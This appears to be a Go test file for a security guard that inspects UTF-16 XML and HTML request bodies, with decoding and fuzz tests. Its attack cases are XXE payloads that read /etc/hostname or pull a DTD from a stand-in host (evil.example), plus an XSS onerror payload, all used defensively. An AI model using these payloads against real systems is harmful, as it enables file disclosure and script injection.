package guard

import (
	"context"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

func encodeUTF16(s string, bigEndian, bom bool) []byte {
	var out []byte
	if bom {
		if bigEndian {
			out = append(out, 0xFE, 0xFF)
		} else {
			out = append(out, 0xFF, 0xFE)
		}
	}
	for _, u := range utf16.Encode([]rune(s)) {
		if bigEndian {
			out = append(out, byte(u>>8), byte(u))
		} else {
			out = append(out, byte(u), byte(u>>8))
		}
	}
	return out
}

// TestUTF16Bodies: XML and HTML documents in UTF-16 (either byte order,
// with and without a byte-order mark, under any declared type) are judged
// as the text they are: their attacks are found, and benign ones pass
// (a mark no longer makes them invalid UTF-8).
func TestUTF16Bodies(t *testing.T) {
	g, _ := newTestGuard(t)
	docs := []struct {
		name, doc string
		attack    bool
	}{
		{"xxe", `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>`, true},
		{"xxe-remote-dtd", `<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>`, true},
		{"xss", `<html><body><img src=x onerror="prompt(9)"></body></html>`, true},
		{"order", `<?xml version="1.0" encoding="UTF-16"?><order id="7"><item sku="A-1">Café crème × 2</item><note>Tom &amp; Jerry</note></order>`, false},
		{"html", `<p>Grüße aus <b>Köln</b> — 10 € 😀</p>`, false},
	}
	for _, ct := range []string{"application/xml", "text/xml", "text/html", "text/plain", "application/octet-stream", ""} {
		for _, d := range docs {
			for _, be := range []bool{false, true} {
				for _, bom := range []bool{false, true} {
					name := d.name + "/" + ct
					if be {
						name += "/be"
					} else {
						name += "/le"
					}
					if bom {
						name += "/bom"
					}
					t.Run(name, func(t *testing.T) {
						dec := g.Inspect(context.Background(), bodyInv(ct, encodeUTF16(d.doc, be, bom)))
						if d.attack && dec.Action != ActionBlock {
							t.Fatalf("attack in UTF-16 not blocked: %+v", dec)
						}
						if !d.attack && dec.Action != ActionAllow {
							t.Fatalf("benign UTF-16 document refused: %+v", dec)
						}
					})
				}
			}
		}
	}
}

func TestUTF16BodyDetection(t *testing.T) {
	cases := []struct {
		name string
		in   []byte
		want string
		ok   bool
	}{
		{"le bom", encodeUTF16("hi", false, true), "hi", true},
		{"be bom", encodeUTF16("hi", true, true), "hi", true},
		{"le markup", encodeUTF16("<a/>", false, false), "<a/>", true},
		{"be markup", encodeUTF16("<a/>", true, false), "<a/>", true},
		{"surrogate pair", encodeUTF16("<a😀>", false, false), "<a😀>", true},
		{"lone surrogate", []byte{'<', 0, 'a', 0, 0x00, 0xD8}, "<a\uFFFD", true},
		{"odd length", append(encodeUTF16("<a", false, false), 'x'), "<a\uFFFD", true},
		{"utf-8 text", []byte("<a>hi</a>"), "", false},
		{"ascii with NUL", []byte("ab\x00c"), "", false},
		{"utf-32 mark", []byte{0xFF, 0xFE, 0, 0, '<', 0, 0, 0}, "", false},
		{"png", []byte("\x89PNG\r\n\x1a\n"), "", false},
		{"short", []byte{0xFF, 0xFE}, "", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, ok := utf16Body(c.in)
			if ok != c.ok || string(got) != c.want {
				t.Fatalf("utf16Body(%x) = %q, %v; want %q, %v", c.in, got, ok, c.want, c.ok)
			}
		})
	}
	if n := testing.AllocsPerRun(100, func() { utf16Body([]byte("<a>plain UTF-8 body</a>")) }); n != 0 {
		t.Fatalf("utf16Body allocates %v times for a UTF-8 body", n)
	}
}

// FuzzUTF16Body: decoding never panics, yields valid UTF-8 at most 1.5x
// the input (+3 for an odd byte), and only for the UTF-16 shapes.
func FuzzUTF16Body(f *testing.F) {
	f.Add(encodeUTF16(`<?xml version="1.0"?><r/>`, false, true))
	f.Add(encodeUTF16(`<r>😀</r>`, true, false))
	f.Add([]byte{0xFF, 0xFE, 0x00, 0xD8})
	f.Add([]byte("<a>b</a>"))
	f.Fuzz(func(t *testing.T, b []byte) {
		dec, ok := utf16Body(b)
		if !ok {
			if dec != nil {
				t.Fatal("output without ok")
			}
			return
		}
		if !utf8.Valid(dec) {
			t.Fatalf("utf16Body(%x) = %q: invalid UTF-8", b, dec)
		}
		if len(dec) > len(b)+len(b)/2+3 {
			t.Fatalf("utf16Body(%x): %d bytes from %d", b, len(dec), len(b))
		}
	})
}
